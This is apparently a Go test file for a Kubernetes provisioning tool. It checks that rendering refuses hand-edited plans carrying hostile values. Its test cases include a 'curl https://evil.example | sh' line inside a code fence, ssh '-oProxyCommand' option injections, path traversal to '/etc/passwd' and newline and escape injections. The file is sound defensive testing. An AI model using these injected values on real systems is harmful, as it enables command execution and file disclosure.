package render

import (
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"github.com/hybridctl/hybridctl/internal/plan"
	"github.com/hybridctl/hybridctl/internal/provision/transport/sshtest"
)

// fence is a hostile version: text after '-' in a version that would
// put a code block into runbook.md.
const fence = "v3.33.0-x\n\n```sh\ncurl https://evil.example | sh\n```\n"

// TestRenderRefusesUnsafePlan: a plan built or changed by hand (a library
// caller's) with a value that would be read as an option on a command
// line, break out of the runbook's Markdown or lead a URL out of its
// release renders nothing; the error names the field. Derive's plan of
// the same spec renders.
func TestRenderRefusesUnsafePlan(t *testing.T) {
	if _, err := Render(labPlan(t), Options{}); err != nil {
		t.Fatalf("the lab plan: %v", err)
	}
	for name, c := range map[string]struct {
		edit func(*plan.Plan)
		want string
	}{
		"calico version with a code fence":     {func(p *plan.Plan) { p.Calico.Version = fence }, "plan calico.version"},
		"versions.calico with a code fence":    {func(p *plan.Plan) { p.Versions.Calico = fence }, "plan versions.calico"},
		"kubernetes version with a code fence": {func(p *plan.Plan) { p.KubernetesVersion = "v1.37.2-x\n```" }, "plan kubernetesVersion"},
		"containerd version with a path":       {func(p *plan.Plan) { p.Versions.Containerd = "2.2.2-x/../../evil" }, "plan versions.containerd"},
		"add-on version": {func(p *plan.Plan) {
			p.Addons = []plan.Addon{{Name: plan.AddonCertManager, Version: "v1.21.2-x/../../../evil/repo/main",
				ManifestURL: plan.CertManagerURLPrefix + "v1.21.2-x/../../../evil/repo/main/cert-manager.yaml"}}
		}, "plan addons[0].version"},
		"operator URL out of its release": {func(p *plan.Plan) {
			p.Calico.OperatorManifestURL = plan.CalicoURLPrefix + "v3.33.0/manifests/../../../../evil/repo/main/tigera-operator.yaml"
		}, "plan URLs: the Tigera operator manifest"},
		"ssh user as an option":           {func(p *plan.Plan) { p.Nodes[1].SSH.User = "-oProxyCommand=touch /tmp/pwned" }, "plan nodes[1].ssh.user"},
		"ssh user with a newline":         {func(p *plan.Plan) { p.Nodes[1].SSH.User = "user\n```" }, "plan nodes[1].ssh.user"},
		"windows account on linux":        {func(p *plan.Plan) { p.Nodes[1].SSH.User = `LAB\jane` }, "a Windows account name is only for a Windows node"},
		"ssh host as an option":           {func(p *plan.Plan) { p.Nodes[1].SSH.Host = "-oProxyCommand=sh" }, "plan nodes[1].ssh.host"},
		"node name as an option":          {func(p *plan.Plan) { p.Nodes[2].Name = "-rf" }, "plan nodes[2].name"},
		"node address":                    {func(p *plan.Plan) { p.Nodes[2].Address = "192.168.10.26\n```" }, "plan nodes[2].address"},
		"cluster name":                    {func(p *plan.Plan) { p.Cluster = "--context=evil" }, "plan cluster"},
		"api host":                        {func(p *plan.Plan) { p.APIServer.Host = "api\n```" }, "plan apiServer.host"},
		"cert SAN":                        {func(p *plan.Plan) { p.APIServer.CertSANs = []string{p.APIServer.Host, "-x"} }, "plan apiServer.certSANs[1]"},
		"dns suffix":                      {func(p *plan.Plan) { p.DNSSuffix = "example.com\n```" }, "plan dnsSuffix"},
		"dns domain":                      {func(p *plan.Plan) { p.DNSDomain = "cluster.local`x`" }, "plan dnsDomain"},
		"bgp with a line break":           {func(p *plan.Plan) { p.Calico.BGP = "Disabled\n```sh\nreboot\n```" }, "plan calico.bgp"},
		"sandbox image with a line break": {func(p *plan.Plan) { p.SandboxImage = "registry.k8s.io/pause:3.10.2\nreboot" }, "plan sandboxImage"},
		"a taint with ESC":                {func(p *plan.Plan) { p.Nodes[3].Taints[0].Value = "windows\x1b[2J" }, "plan nodes[3].taints[0].value"},
		"a line separator":                {func(p *plan.Plan) { p.RuntimeClasses[0].Handler = "runhcs\u2028x" }, "plan runtimeClasses[0].handler"},
		"crd manifest as a path":          {func(p *plan.Plan) { p.Calico.CRDManifest = "../../../etc/passwd" }, "plan calico.crdManifest"},
		"registry as an option": {func(p *plan.Plan) {
			p.Registry = &plan.Registry{Prefix: "-registry.example:5000", HostPort: "-registry.example:5000"}
		}, "plan registry.prefix"},
		"registry host and prefix differ": {func(p *plan.Plan) {
			p.Registry = &plan.Registry{Prefix: "registry.example:5000", HostPort: "evil.example:5000"}
		}, "plan registry"},
		"endpoint": {func(p *plan.Plan) { p.ControlPlaneEndpoint = "-oProxyCommand=x:6443" }, "plan controlPlaneEndpoint"},
	} {
		p := labPlan(t)
		c.edit(p)
		files, err := Render(p, Options{})
		if err == nil || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%s: %d files, error %v; want an error saying %s", name, len(files), err, c.want)
			continue
		}
		if files != nil {
			t.Errorf("%s: %d files rendered beside the error", name, len(files))
		}
	}
}

// TestRunbookSSHWords: the runbook puts the user after -l (ssh) or in
// -o User= (scp), and the host after --, for POSIX users, Windows account
// names with a domain and a space, IPv6 hosts and other ports.
func TestRunbookSSHWords(t *testing.T) {
	c := labCluster(t)
	c.Spec.Nodes[1].SSH.Host = "fd00::24"
	c.Spec.Nodes[1].SSH.Port = 2222
	c.Spec.Nodes[3].SSH.User = `LAB\Jane Doe`
	rb := string(mustRender(t, planOf(t, c), Options{})["runbook.md"].Data)
	for _, want := range []string{
		"\nscp -P 2222 -o User=user -- nodes/k8s-lab-node-1/prepare.sh '[fd00::24]':\n",
		"\nssh -t -p 2222 -l user -- fd00::24 sudo bash prepare.sh\n",
		"\nscp -o 'User=LAB\\Jane Doe' -- nodes/k8s-lab-win-1/prepare.ps1 192.168.10.25:\n",
		"\nscp -o 'User=LAB\\Jane Doe' -- nodes/k8s-lab-win-1/join.yaml 192.168.10.25:C:/k/join.yaml\n",
		"\nssh -t -l user -- 192.168.10.23 sudo kubeadm init --config kubeadm-config.yaml\n",
		"\nscp -o User=user -- 192.168.10.23:admin.conf ./lab-admin.conf",
	} {
		if !strings.Contains(rb, want) {
			t.Errorf("runbook.md lacks %q", want)
		}
	}
	// No ssh or scp word where a name or path goes starts with '-'
	// after the "--".
	for _, l := range strings.Split(rb, "\n") {
		if !strings.HasPrefix(l, "ssh ") && !strings.HasPrefix(l, "scp ") {
			continue
		}
		_, operands, ok := strings.Cut(l, " -- ")
		if !ok {
			t.Errorf("no -- in %q", l)
		}
		if strings.HasPrefix(operands, "-") {
			t.Errorf("an operand starts with '-' in %q", l)
		}
	}
}

// runbookCommand is the ssh or scp command line of the runbook up to and
// including "--" and, for ssh, the host.
var runbookCommand = regexp.MustCompile(`(?m)^(ssh -t -p \d+ -l \S+ -- \S+|scp -P \d+ -o \S+ --) `)

// TestRunbookSSHAgainstOpenSSH runs the runbook's own ssh and scp command
// words, as rendered for a node reached on a loopback port, against a real
// sshd: "ssh -t -p PORT -l USER -- HOST" runs a command as USER, "scp -P
// PORT -o User=USER --" copies a file there and back. The client's key
// and known_hosts come from a -F configuration a wrapper on PATH adds in
// front of the rendered words (and -O for scp: the test sshd serves no
// SFTP subsystem, so scp uses its own protocol; the words are parsed the
// same).
func TestRunbookSSHAgainstOpenSSH(t *testing.T) {
	key := sshtest.NewKey(t)
	o := sshtest.StartOpenSSH(t, key.Signer.PublicKey())
	host, port, err := splitHostPort(o.Addr)
	if err != nil {
		t.Fatal(err)
	}
	c := labCluster(t)
	c.Spec.Nodes[0].SSH.User = o.User
	c.Spec.Nodes[0].SSH.Host = host
	c.Spec.Nodes[0].SSH.Port = port
	rb := string(mustRender(t, planOf(t, c), Options{})["runbook.md"].Data)
	var sshWords, scpWords string
	for _, m := range runbookCommand.FindAllStringSubmatch(rb, -1) {
		switch {
		case strings.HasPrefix(m[1], "ssh ") && sshWords == "":
			sshWords = m[1]
		case strings.HasPrefix(m[1], "scp ") && scpWords == "":
			scpWords = m[1]
		}
	}
	if want := "ssh -t -p " + strconv.Itoa(port) + " -l " + o.User + " -- " + host; sshWords != want {
		t.Fatalf("runbook's ssh words %q, want %q", sshWords, want)
	}
	if want := "scp -P " + strconv.Itoa(port) + " -o User=" + o.User + " --"; scpWords != want {
		t.Fatalf("runbook's scp words %q, want %q", scpWords, want)
	}

	dir := t.TempDir()
	known := filepath.Join(dir, "known_hosts")
	cfg := filepath.Join(dir, "ssh_config")
	bin := filepath.Join(dir, "bin")
	write := func(p, s string, mode os.FileMode) {
		t.Helper()
		if err := os.WriteFile(p, []byte(s), mode); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Mkdir(bin, 0o755); err != nil {
		t.Fatal(err)
	}
	write(known, o.KnownHostsLine(), 0o600)
	write(cfg, "Host *\n  IdentityFile "+key.Path+"\n  IdentitiesOnly yes\n  UserKnownHostsFile "+known+
		"\n  StrictHostKeyChecking yes\n  BatchMode yes\n  LogLevel ERROR\n", 0o600)
	for prog, extra := range map[string]string{"ssh": "", "scp": " -O"} {
		real, err := exec.LookPath(prog)
		if err != nil {
			t.Fatalf("%s: %v (the OpenSSH client, Debian's openssh-client)", prog, err)
		}
		write(filepath.Join(bin, prog), "#!/bin/sh\nexec "+real+" -F "+cfg+extra+" \"$@\"\n", 0o755)
	}
	run := func(line string) string {
		t.Helper()
		cmd := exec.Command("sh", "-c", line)
		cmd.Dir = dir
		cmd.Env = append(os.Environ(), "PATH="+bin+":"+os.Getenv("PATH"))
		out, err := cmd.CombinedOutput()
		if err != nil {
			t.Fatalf("%s: %v\n%s\nsshd: %s", line, err, out, o.Log())
		}
		return string(out)
	}
	if out := run(sshWords + " id -un"); !strings.Contains(out, o.User) {
		t.Errorf("ssh ran as %q, want %s", out, o.User)
	}
	remote := filepath.Join(t.TempDir(), "copied")
	write(filepath.Join(dir, "local"), "payload\n", 0o644)
	run(scpWords + " local " + host + ":" + remote)
	run(scpWords + " " + host + ":" + remote + " back")
	if b, err := os.ReadFile(filepath.Join(dir, "back")); err != nil || string(b) != "payload\n" {
		t.Errorf("scp there and back: %q, %v", b, err)
	}
}

func splitHostPort(addr string) (string, int, error) {
	h, p, ok := strings.Cut(addr, ":")
	if !ok {
		return "", 0, strconv.ErrSyntax
	}
	n, err := strconv.Atoi(p)
	return h, n, err
}
